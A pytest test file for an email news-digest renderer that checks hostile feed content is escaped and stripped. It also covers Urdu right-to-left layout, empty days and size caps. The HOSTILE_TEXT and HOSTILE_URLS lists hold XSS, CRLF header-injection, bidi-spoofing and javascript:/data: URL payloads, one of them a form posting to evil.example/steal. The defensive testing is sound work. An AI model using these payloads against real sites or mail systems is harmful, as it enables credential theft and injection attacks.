"""The digest rendered from a hostile corpus, in right-to-left scripts, on an empty day and on a
day too big for one email: what survives is text, and nothing of the attack."""

from __future__ import annotations

import dataclasses
import datetime as dt
import re
from email.message import EmailMessage

import pytest

from jirga.digest_content import DigestLimits
from jirga.digest_data import DigestSource, NarrativeRecord
from jirga.digest_fit import fit_digest, message_size
from jirga.digest_model import build_digest
from jirga.digest_render import render_digest, self_contained, split_images
from jirga.mail import build_message
from jirga.types import FeedHealth, OutletRole, Passage
from tests.jirga.digest_samples import (
    DAY,
    GENERATED,
    URDU_PASSAGE,
    URDU_TITLE,
    article,
    at,
    empty_source,
    member,
    ordinary_source,
)
from tests.jirga.html_audit import audit, visible_text

# Each one is put into every feed-derived field: titles, outlets, phrases, passages, links,
# feed names and errors.
HOSTILE_TEXT = [
    "<script>alert('title')</script>Jirga meets",
    '<img src="https://track.example/pixel.gif" width="1" height="1" onerror="alert(1)">pixel',
    '"><svg onload=alert(1)><circle r="9"/></svg>vector',
    "<form action='https://evil.example/steal'><input name=pw><button>Go</button></form>form",
    "<!--[if mso]><script>alert('mso')</script><![endif]-->conditional",
    "<a href='javascript:alert(1)' onclick='x()'>click</a>link",
    "<iframe src='https://evil.example/'></iframe><style>body{background:url(x)}</style>frame",
    "Headline\r\nBcc: victim@example.org\r\n\r\ninjected body",
    "evil\u202egnp.exe and \u2066isolate\u2069 and \u200fmark",
    "<div style=\"background-image:url('https://track.example/bg.png')\">styled</div>",
    "{{ 7*7 }} {% raw %} [md](javascript:alert(1)) **bold** <b>b</b> | pipe",
]
HOSTILE_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "https://user:pass@evil.example/",
    "//evil.example/no-scheme",
    'https://ok.example/"onmouseover="alert(1)',
    "https://ok.example/\r\nX-Injected: 1",
    "file:///etc/passwd",
    "https://ok.example/\u202e/txt.exe",
    "https://ok.example/fine?a=1&b=2",  # the one good link: kept, with its & escaped
]


def hostile_source() -> DigestSource:
    """The ordinary day with every feed-derived field replaced by attacks."""
    base = ordinary_source()
    articles = []
    for i, a in enumerate(base.articles):
        text = HOSTILE_TEXT[i % len(HOSTILE_TEXT)]
        articles.append(
            dataclasses.replace(
                a,
                title=text,
                url=HOSTILE_URLS[i % len(HOSTILE_URLS)],
                outlet=HOSTILE_TEXT[(i + 3) % len(HOSTILE_TEXT)],
            )
        )
    narratives = []
    for n in base.narratives:
        narratives.append(
            dataclasses.replace(
                n,
                label=HOSTILE_TEXT[n.id % len(HOSTILE_TEXT)],
                key_phrases=tuple(HOSTILE_TEXT[:4]),
                passages=tuple(
                    Passage(t, 1, HOSTILE_TEXT[2], at(DAY, 8), "en") for t in HOSTILE_TEXT[:3]
                ),
                outlets=tuple(
                    OutletRole(HOSTILE_TEXT[k], at(DAY, 8), 1, 0, "first" if k == 0 else "x")
                    for k in range(3)
                ),
                representative=dataclasses.replace(
                    n.representative, title=HOSTILE_TEXT[0], url=HOSTILE_URLS[0]
                )
                if n.representative
                else None,
            )
        )
    feeds = tuple(
        dataclasses.replace(f, name=HOSTILE_TEXT[i], last_error=HOSTILE_TEXT[-i - 1])
        for i, f in enumerate(base.feeds)
    )
    return dataclasses.replace(
        base, articles=tuple(articles), narratives=tuple(narratives), feeds=feeds
    )


def _email(source: DigestSource) -> EmailMessage:
    r = render_digest(build_digest(source))
    return build_message(
        subject=r.subject,
        html_document=self_contained(r),
        text=r.text,
        sender="jirga <jirga@example.org>",
        recipient="analyst@example.org",
        msg_id="<digest.test@example.org>",
        date=GENERATED,
        day=DAY,
    )


def test_nothing_of_a_hostile_corpus_survives() -> None:
    r = render_digest(build_digest(hostile_source()))
    assert audit(r.html) == []
    assert audit(self_contained(r), images="data:image/png;base64,") == []
    raw = r.html.lower()
    for tag in ("<script", "<svg", "<form", "<iframe", "<style", "<input", "<button", "<!--",
                "<![endif", "<circle", "<div style=\"background"):  # fmt: skip
        assert tag not in raw, tag
    # The words of an attack may be shown as text (escaped), never inside a tag.
    for word in ("javascript:", "vbscript:", "data:", "onerror", "onload", "onclick",
                 "onmouseover", "track.example", "evil.example", "url(", "user:pass"):  # fmt: skip
        assert not re.search(r"<[^>]*" + re.escape(word), raw), word
    # Every link is to a web page; none carries credentials or a broken-out attribute.
    hrefs = re.findall(r'href="([^"]*)"', r.html)
    assert hrefs and set(hrefs) == {"https://ok.example/fine?a=1&amp;b=2"}, hrefs
    # What the attacks said is still there, as text (nothing lost, nothing run).
    shown = visible_text(r.html)
    assert "<script>alert('title')</script>Jirga meets" in shown
    assert "{{ 7*7 }}" in shown  # template syntax in feed text is not evaluated


def test_text_and_markdown_parts_carry_no_injection() -> None:
    r = render_digest(build_digest(hostile_source()))
    for part in (r.text, r.markdown, r.subject):
        assert "\r" not in part
        assert not re.search("[\u202a-\u202e\u2066-\u2069\x00-\x08\x0b-\x1f]", part)
    # CR/LF in a title cannot start a line of its own in the text part.
    assert not any(line.startswith("Bcc:") for line in r.text.splitlines())
    assert "Headline Bcc: victim@example.org injected body" in r.text
    # Markdown: no raw HTML, links only to web pages.
    assert "<script" not in r.markdown and "<svg" not in r.markdown
    targets = re.findall(r"(?<!\\)\]\(([^)]*)\)", r.markdown)
    assert targets and set(targets) == {"https://ok.example/fine?a=1&amp;b=2"}, targets
    assert "\\[md\\](javascript:alert(1))" in r.markdown  # feed text's link syntax, escaped


def test_headers_of_a_hostile_digest_are_clean() -> None:
    msg = _email(hostile_source())
    raw = msg.as_bytes()
    head = raw.split(b"\r\n\r\n", 1)[0]
    assert b"Bcc" not in head and b"X-Injected" not in head
    assert [k.lower() for k in msg].count("to") == 1


def test_right_to_left_text_is_marked_right_to_left() -> None:
    r = render_digest(build_digest(ordinary_source()))
    # The Urdu passage: a cell of its own, right to left, in Urdu.
    cell = re.search(r'<td dir="rtl" lang="ur"[^>]*>“' + re.escape(URDU_PASSAGE), r.html)
    assert cell, "the Urdu passage is not rendered right to left"
    assert re.search(r'<td dir="ltr" lang="en"[^>]*>“Islamabad', r.html)
    assert re.search(r'dir="rtl" lang="ur"[^>]*><a href="https://news\.example/2"', r.html)
    assert URDU_TITLE in r.text and URDU_PASSAGE in r.text


def test_every_article_of_the_day_is_listed_with_its_link() -> None:
    source = ordinary_source()
    r = render_digest(build_digest(source))
    day = [a for a in source.articles if a.published_at.astimezone(at(DAY, 0).tzinfo) and
           at(DAY, 0) <= a.published_at < at(DAY + dt.timedelta(days=1), 0)]  # fmt: skip
    assert len(day) == 7
    for a in day:
        assert f'href="{a.url}"' in r.html
        assert a.url in r.text and a.url in r.markdown


def test_an_empty_day_is_a_short_digest_that_says_so() -> None:
    d = build_digest(empty_source())
    assert d.empty
    r = render_digest(d)
    assert r.subject == "jirga digest Tue 03 Mar 2026: no matching articles"
    assert "No article mentioning a watch term was published on 03 Mar 2026" in r.text
    assert "No article mentioning a watch term" in visible_text(r.html)
    assert "NEW NARRATIVES" not in r.text and "TRACKED" not in r.text
    assert "FEED HEALTH" in r.text  # why a day is empty is often a feed's doing
    assert r.images == ()
    assert len(r.text) < 2000 and message_size(r) < 20_000
    assert audit(r.html) == []


def test_rendering_is_deterministic() -> None:
    one, two = (
        render_digest(build_digest(ordinary_source())),
        render_digest(build_digest(ordinary_source())),
    )
    assert one == two
    html, images = split_images(self_contained(one))
    assert html == one.html
    assert {i.cid: i.data for i in images} == {i.cid: i.data for i in one.images}


def _huge_source(narratives: int = 120, per: int = 30) -> DigestSource:
    base = ordinary_source()
    articles = []
    records = []
    long_title = "Talks with the TTP resume in Kabul as the jirga of elders " * 8
    for n in range(narratives):
        items = [
            article(
                10_000 + n * per + k,
                DAY,
                hour=k % 23,
                title=f"{long_title} {n}-{k}",
                outlet=f"Outlet {k % 17}",
                narrative=1000 + n,
            )
            for k in range(per)
        ]
        articles += items
        records.append(
            NarrativeRecord(
                id=1000 + n,
                label=f"Narrative {n}",
                key_phrases=("jirga", "talks"),
                representative_article_id=items[0].id,
                representative=member(items[0]),
                passages=(Passage(long_title, items[0].id, "Outlet 0", at(DAY, 1), "en"),),
                daily=((DAY - dt.timedelta(days=n % 9 + 1), 2, 1), (DAY, per, 17)),
                outlets=(OutletRole("Outlet 0", at(DAY, 0), per, 0, "first"),),
                first_seen=at(DAY - dt.timedelta(days=n % 9 + 1), 0),
                article_count=per + 2,
            )
        )
    return dataclasses.replace(base, articles=tuple(articles), narratives=tuple(records))


def test_a_huge_day_fits_the_size_cap_and_says_what_it_left_out() -> None:
    source = _huge_source()
    uncapped = message_size(
        render_digest(build_digest(source, limits=DigestLimits(max_narratives=500)))
    )
    assert uncapped > 1_000_000  # the cap is what keeps it small
    fitted = fit_digest(source, max_bytes=300_000)
    assert fitted.size <= 300_000
    d = fitted.digest
    assert d.narratives_omitted > 0 and d.articles_omitted > 0
    shown = sum(len(n.articles) for n in d.narratives) + len(d.other_articles)
    assert shown + d.articles_omitted == d.glance.total == 120 * 30
    assert "left out to keep this email small" in fitted.rendered.text
    assert f"{d.articles_omitted} articles of the day not listed" in fitted.rendered.text


@pytest.mark.parametrize("limit", [1, 3])
def test_per_item_caps(limit: int) -> None:
    source = ordinary_source()
    d = build_digest(source, limits=DigestLimits(max_narratives=limit, title_chars=12))
    assert len(d.narratives) == limit
    assert all(len(a.title) <= 12 for n in d.narratives for a in n.articles)
    assert d.narratives_omitted == 3 - limit


def test_feed_health_section_lists_sick_feeds() -> None:
    r = render_digest(build_digest(ordinary_source()))
    assert "Jang (jang): failing — 4 failed attempts in a row (HTTP 500)" in r.text
    assert "Old Times (old): gone" in r.text
    assert "Quiet Post (quiet): silent" in r.text
    assert "Switched Off" not in r.text  # disabled feeds are the user's choice
    healthy = dataclasses.replace(
        ordinary_source(),
        feeds=(
            FeedHealth(
                "dawn",
                "Dawn",
                True,
                "https://d.example/",
                GENERATED,
                GENERATED,
                200,
                0,
                None,
                None,
                False,
                None,
                3,
            ),
        ),
    )
    assert (
        "Every enabled feed is fetched without errors" in render_digest(build_digest(healthy)).text
    )
